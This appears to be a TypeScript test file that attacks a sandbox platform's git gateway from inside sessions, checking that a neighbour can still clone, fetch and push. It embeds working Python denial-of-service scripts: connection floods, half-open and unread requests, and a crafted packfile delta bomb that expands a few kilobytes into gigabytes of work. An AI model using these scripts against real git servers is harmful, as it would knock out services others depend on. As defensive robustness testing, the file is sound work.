import { logOf, settled, startSession, until } from '../../../scenarios/session.ts';
import { wrongIn, type Attack } from '../../attack.ts';
import type { Arena } from '../../rig/arena.ts';
import { attackFromInside } from '../../rig/from-inside.ts';

const area = 'git';
const BY_GATEWAY = { credentials: { delivery: 'gateway' }, timeoutSeconds: 60 };
/** What a neighbour's clone, fetch and pushes by the gateway may take beside an attack on it, all together. */
const MAX_WORK_MS = 30_000;
const WORK = `
  began=$(date +%s%N)
  for i in 1 2 3; do
    git commit -q --allow-empty -m "$i"; git push -q origin HEAD:refs/heads/agent/$DAYPASS_SESSION_ID/work && git fetch -q origin && echo "round $i"
  done
  echo "took=$(( ($(date +%s%N) - began) / 1000000 ))"`;

/** What all of these have: how a request of git looks that goes to the gateway. */
const PRELUDE = `
from weapon import *
import os, random, struct, subprocess, threading
def out(*args):
    return subprocess.check_output(["git", *args], text=True).strip()
path = "/" + out("remote", "get-url", "origin").split("/", 3)[3]
head = out("rev-parse", "HEAD")
mine = f"refs/heads/agent/{os.environ['DAYPASS_SESSION_ID']}"
def packet(text):
    return b"%04x" % (len(text) + 4) + text
def get(rest):
    return f"GET http://git.daypass.internal{path}{rest} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()
def post(service, length):
    return f"POST http://git.daypass.internal{path}/git-{service} HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/x-git-{service}-request\\r\\nContent-Length: {length}\\r\\n\\r\\n".encode()
def gateway():
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(20)
    one.connect(GATEWAY)
    return one
fetch = packet(b"want %s side-band-64k\\n" % head.encode()) + b"0000" + packet(b"done\\n")
`;

/** Each of these holds what it can for so long, while the neighbours work. */
const HOLD_SECONDS = 12;
/** Those that were sent until then are still looked into behind it. */
const BOMB_SECONDS = 4;

const HANG_UP = `weapon <<'PY'
${PRELUDE}
random.seed(1)
kinds = [get("/info/refs?service=git-upload-pack"), get("/info/refs?service=git-receive-pack"), post("upload-pack", len(fetch)) + fetch]
def hang_up(kind, wait):
    one = gateway()
    one.sendall(kind[:random.choice([len(kind), len(kind), random.randrange(len(kind))])])
    time.sleep(wait)
    one.close()
count = 0
until = time.time() + ${HOLD_SECONDS}
while time.time() < until:
    try:
        hang_up(random.choice(kinds), random.random() * 0.003)
        count += 1
    except OSError as error:
        print("turned away:", error, flush=True)
        time.sleep(0.2)
print(f"hung up {count} times", flush=True)
PY
git fetch -q origin || hole "the session's own git is gone"`;

const HALF_OPEN = `weapon <<'PY'
${PRELUDE}
held = []
push = packet(b"%s %s %s/x\\0report-status" % (head.encode(), head.encode(), mine.encode())) + b"0000PACK"
for i in range(80):
    body = fetch[:20] if i % 2 else push
    one = gateway()
    one.sendall(post("upload-pack" if i % 2 else "receive-pack", 1000000) + body)
    held.append(one)
print(f"holds {len(held)} requests", flush=True)
for second in range(${HOLD_SECONDS}):
    time.sleep(1)
    for one in held:
        try:
            one.sendall(b"0")
        except OSError:
            pass
PY`;

const UNREAD = `weapon <<'PY'
${PRELUDE}
held = []
for i in range(80):
    one = gateway()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    one.sendall(post("upload-pack", len(fetch)) + fetch)
    held.append(one)
print(f"holds {len(held)} answers", flush=True)
time.sleep(${HOLD_SECONDS})
PY`;

/** Each delta makes 256 MB of the same 32 MB, so that a few kilobytes keep a processor busy for minutes. */
const BOMB = `weapon <<'PY'
${PRELUDE}
import hashlib, zlib
MEGABYTE = 1 << 20
def number(value):
    made = bytearray()
    while True:
        byte = value & 0x7f
        value >>= 7
        made.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(made)
def header(kind, size):
    first, size = (kind << 4) | (size & 15), size >> 4
    made = bytearray()
    while size:
        made.append(first | 0x80)
        first, size = size & 0x7f, size >> 7
    return bytes(made + bytes([first]))
size = 32 * MEGABYTE
base = b"\\0" * size
objects = [header(3, size) + zlib.compress(base, 9)]
name = hashlib.sha1(b"blob %d\\0" % size + base).digest()
for i in range(120):
    tail = b"%08d" % i
    copies = b""
    for _ in range(8):
        at = 0
        while at < size:
            length = min(0xffffff, size - at)
            copies += bytes([0xff]) + struct.pack("<I", at) + struct.pack("<I", length)[:3]
            at += length
    delta = number(size) + number(8 * size + 8) + copies + bytes([8]) + tail
    objects.append(header(7, len(delta)) + name + zlib.compress(delta, 9))
pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
pack += hashlib.sha1(pack).digest()
other = "1" * 40
print(f"bomb={len(pack)}", flush=True)
until = time.time() + ${BOMB_SECONDS}
def push(i):
    while time.time() < until:
        body = packet(b"%s %s %s/x%d\\0report-status" % (head.encode(), other.encode(), mine.encode(), i)) + b"0000" + pack
        one = gateway()
        one.settimeout(60)
        one.sendall(post("receive-pack", len(body)) + body)
        answer = one.recv(65536).decode("latin-1")
        print("answered:", answer.split("\\r\\n")[0], "cannot be told" in answer, flush=True)
threads = [threading.Thread(target=push, args=(i,)) for i in range(3)]
[one.start() for one in threads]
[one.join() for one in threads]
PY`;

/** Sessions whose git goes by the gateway, and who try to take all of it. */
export const BY_GATEWAY_GIT: Attack[] = [
  together({
    name: 'clients that hang up at any moment of a fetch or a push end the gateway for nobody',
    must: 'The gateway is the same process, and others fetch and push beside them.',
    script: HANG_UP,
    sign: /^hung up \d{2,} times$/m,
  }),
  together({
    name: 'requests of git that are sent halfway hold up nobody else',
    must: 'They take no connection to the repo host and no place; others clone, fetch and push within seconds.',
    script: HALF_OPEN,
    sign: /^holds 80 requests$/m,
  }),
  together({
    name: 'answers of git that nobody reads hold up nobody else',
    must: 'A session has a few of them at once, each for a bounded time; others clone, fetch and push within seconds.',
    script: UNREAD,
    files: { 'large.bin': 'x'.repeat(1_000_000) },
    sign: /^holds 80 answers$/m,
  }),
  together({
    name: 'two sessions with delta bombs do not keep the gateway from looking into the pushes of others',
    must: 'Each bomb has seconds of a processor, and the sessions take turns: pushes of others are looked into within seconds.',
    script: BOMB,
    sign: /^answered: HTTP\/1.1 200 OK True$/m,
    alone: true,
  }),
];

interface Together {
  name: string;
  must: string;
  script: string;
  files?: Record<string, string>;
  /** What the attackers' logs hold when the attack was carried out. */
  sign: RegExp;
  alone?: boolean;
}

/** The script in two sessions at once, with a third one that fetches and pushes by the gateway beside them. */
function together({ name, must, script, files = {}, sign, alone = false }: Together): Attack {
  return {
    name,
    area,
    must,
    alone,
    async run(arena, underWay) {
      const begun = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
      const weapon = { script, files, request: BY_GATEWAY, repo: { push: {} } };
      const attackers = begun.map(({ resolve }) => attackFromInside(arena, weapon, resolve));
      // One that fails never begins.
      const failed = Promise.all(attackers);
      await Promise.race([Promise.all(begun.map(({ promise }) => promise)), failed]);
      underWay();
      const [worked, outcomes] = await Promise.all([workBeside(arena), failed]);
      const logs = outcomes.map(({ outcome }) => outcome.log);
      return [
        ...worked,
        ...logs.flatMap((log) =>
          wrongIn(
            [sign.test(log), `the attack was not carried out: ${log.slice(-500)}`],
            [!log.includes('HOLE'), `it got through: ${log.slice(-500)}`],
          ),
        ),
      ];
    },
  };
}

/** What is wrong with a neighbour's fetches and pushes by the gateway. */
async function workBeside({ stack, starts, neighbour }: Arena): Promise<string[]> {
  const id = await starts.run(async () => {
    const repos = [{ id: neighbour.repoId, push: {} }];
    const command = ['sh', '-c', WORK];
    const accepted = await startSession(stack, { repos, command, ...BY_GATEWAY });
    await until(stack, accepted.id, ({ status }) => !['queued', 'starting'].includes(status));
    return accepted.id;
  });
  await settled(stack, id);
  const log = await logOf(stack, id);
  const tookMs = Number(/^took=(\d+)$/m.exec(log)?.[1] ?? Number.NaN);
  return wrongIn(
    [log.includes('round 3'), `a neighbour could not fetch and push by the gateway: ${log.slice(-500)}`],
    [tookMs <= MAX_WORK_MS, `a neighbour's fetches and pushes by the gateway took ${tookMs} ms`],
  );
}
